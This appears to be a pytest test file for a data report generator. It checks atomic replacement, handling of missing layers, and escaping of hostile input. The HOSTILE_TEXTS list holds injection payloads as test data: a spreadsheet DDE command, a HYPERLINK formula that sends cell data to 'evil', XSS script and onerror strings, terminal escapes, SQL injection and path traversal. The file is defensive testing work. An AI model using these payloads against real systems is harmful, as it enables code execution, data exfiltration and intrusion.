"""The page as a whole: safe, self-contained, replaced in one step, and honest about layers that are missing."""

import csv
import html
import re
import shutil
import subprocess
import sys
from collections import Counter
from html.parser import HTMLParser

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from pyspark.sql import SparkSession

from conf.errors import InputError
from jobs.console.progress import say
from jobs.records.recommending import Example, MostRecommended
from jobs.report import report
from tests.support.layers import reseal
from tests.support.page import FIGURES, figures_of, page_of, page_without_figures, sheet, text_of
from tests.support.paths import ROOT
from tests.support.report_folder import ReportFolder
from tests.support.report_records import HOSTILE

# ---- layers that are missing ----


@pytest.mark.parametrize(
    ("kept", "figures", "said"),
    [
        ("landing", {"flow"}, "120 108"),
        ("events", {"flow"}, "Data: 6.5 % of the lines were rejected"),
        ("features", {"flow"}, "The label is 1 when"),
        ("scores", {"flow", "deciles", "profit", "uplift"}, "1,640 of 2,000 customers are expected to leave"),
        (
            "models",
            FIGURES - {"flow", "deciles", "profit", "uplift"},
            "There are no records of layers in this folder.",
        ),
    ],
)
def test_layers_that_are_missing_are_said_in_words(
    folder: ReportFolder, sail: SparkSession, kept: str, figures: set[str], said: str
) -> None:
    for layer in list(folder.data.root.iterdir()):
        if layer.name != kept:
            shutil.rmtree(layer)
    page = page_of(folder, sail)
    text = text_of(page)
    assert set(figures_of(page)) == figures
    assert said in text
    assert ("There are no scores yet" in text) == (kept != "scores")
    assert ("There is no model yet" in text) == (kept != "models")
    assert "Not measured yet: encore drift" in text
    assert (folder.data.report / "csv" / "deciles.csv").exists() == (kept == "scores")


def test_nothing_at_all_is_an_input_error_and_leaves_no_trace(folder: ReportFolder, sail: SparkSession) -> None:
    shutil.rmtree(folder.data.root)
    folder.data.root.mkdir()
    with pytest.raises(InputError, match=r"nothing to report yet; run `encore run"):
        report(folder.context, sail)
    assert list(folder.data.root.iterdir()) == []


def test_report_is_replaced_as_a_whole(folder: ReportFolder, sail: SparkSession) -> None:
    (folder.data.report / "csv").mkdir(parents=True)
    (folder.data.report / "csv" / "old.csv").touch()
    first = report(folder.context, sail).read_bytes()
    assert not (folder.data.report / "csv" / "old.csv").exists()
    assert not list(folder.data.root.glob(".staging-*"))
    assert report(folder.context, sail).read_bytes() == first  # the same data, the same page


# ---- safe, and in one file ----


def test_words_of_the_data_are_only_words(page: str) -> None:
    assert page.count(html.escape("<script>", quote=False)) >= 10  # title twice, label, features and reasons
    assert "<script" not in page
    assert "<img" not in page
    assert "onerror=&#34;" in page


def test_customers_that_are_text_are_only_words(folder: ReportFolder, sail: SparkSession) -> None:
    names = [f"{HOSTILE}{number}" for number in range(2000)]
    scores = pq.read_table(folder.score_rows)
    pq.write_table(scores.set_column(0, "customer_id", pa.array(names)), folder.score_rows)
    reseal(folder.score_rows.parent)
    folder.with_feature_rows(customer_id=names[:25])
    page = page_without_figures(folder, sail)
    assert "<script" not in page
    assert f"{HOSTILE}20 90.0 % 8 EUR" in text_of(page)


# Case 44: ids and titles of customers, as logs and files of ratings may have them.
HOSTILE_TEXTS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil/?"&A2,"x")',
    "\t=tab",
    "  =padded",
    "=1+1\n=2+2",
    "a\nb",
    '"quoted"',
    "a,b",
    "x;y",
    "</title><script>alert(6)</script>",
    '"><img src=x onerror=alert(7)>',
    "&lt;b&gt;",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;pwned\x07",
    "\x1b[2J",
    "\x9b31m",
    "\x00",
    "\u202egnp.exe",
    "\u2066x",
    "[red]rich[/red]",
    "[/oops]",
    "{{7*7}}",
    "{% for %}",
    "$(id)",
    "' OR 1=1 --",
    "../../etc/passwd",
    "ok | md",
    "007",
    "1E5",
    "🎵",
    "null",
    "%00",
    "</svg><b>",
]
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # by a terminal or a browser


def elements(page: str) -> Counter[str]:
    """How often each element is in a page, as a browser reads it."""
    found: Counter[str] = Counter()
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attributes: found.update([tag])  # type: ignore[method-assign]
    parser.feed(page)
    return found


def test_hostile_ids_and_titles_reach_no_page_no_sheet_and_no_terminal(
    recommended: ReportFolder, sail: SparkSession, capsys: pytest.CaptureFixture[str]
) -> None:
    """Case 44: the page has the elements that it has with plain texts, and each sheet texts that compute nothing."""

    def pages(texts: list[str]) -> str:
        names = [texts[number % len(texts)] + str(number) for number in range(2000)]
        scores = pq.read_table(recommended.score_rows)
        pq.write_table(scores.set_column(0, "customer_id", pa.array(names)), recommended.score_rows)
        reseal(recommended.score_rows.parent)
        recommended.with_feature_rows(customer_id=names[:25])
        most = [MostRecommended(title_id=text, name=text, customers=9) for text in texts]
        shown = [Example(customer_id=text, history_titles=1, history=[text], recommended=[text]) for text in texts[:5]]
        recommended.with_recommendations(most_recommended=most, examples=shown)
        page = page_without_figures(recommended, sail)
        say(f"report of {'; '.join(texts)}")
        return page

    plain = pages([f"Song {number}" for number in range(len(HOSTILE_TEXTS))])
    for texts in (HOSTILE_TEXTS, HOSTILE_TEXTS[::-1]):
        page = pages(texts)
        assert elements(page) == elements(plain)
        assert not OBEYED.search(page) and "<script" not in page and "<img" not in page
    assert not OBEYED.search(capsys.readouterr().err.replace("\n", ""))
    for file in (recommended.data.report / "csv").glob("*.csv"):
        with file.open(encoding="utf-8-sig", newline="") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row]
        computed = [cell for cell in cells if re.match(r"\s*[=+@]|\s*-(?![0-9.]+$)", cell)]
        assert not computed and not any(map(OBEYED.search, cells)), file.name
    assert "'=1+1 =2+2" in [row["name"] for row in sheet(recommended, "recommended")]


def test_page_needs_nothing_from_elsewhere(page: str) -> None:
    assert not re.search(r"https?:|//[a-z]|@import|<link|<iframe|\bsrc=[\"']", page.replace("// ", ""))
    assert {target[0] for target in re.findall(r'href="([^"]*)"', page)} == {"#"}
    assert all(target.startswith("#") for target in re.findall(r"url\(([^)]*)\)", page))


# ---- the code ----


def test_report_knows_no_service() -> None:
    jobs = ROOT / "jobs"
    files = [path for path in (jobs / "reporting").rglob("*") if path.suffix in (".py", ".j2", ".css")]
    files += [jobs / "report.py", jobs / "formatting.py", jobs / "training" / "selection.py"]
    text = "".join(file.read_text() for file in files)
    words = set(re.findall(r"[a-z]+", text.lower().replace("_", " ")))
    assert (
        words & {"churn", "churned", "song", "songs", "play", "plays", "music", "audiobook", "purchase", "cd"} == set()
    )


def test_only_a_report_that_is_drawn_imports_matplotlib() -> None:
    code = "import sys, jobs.report; sys.exit('matplotlib' in sys.modules)"
    subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=True, timeout=300)
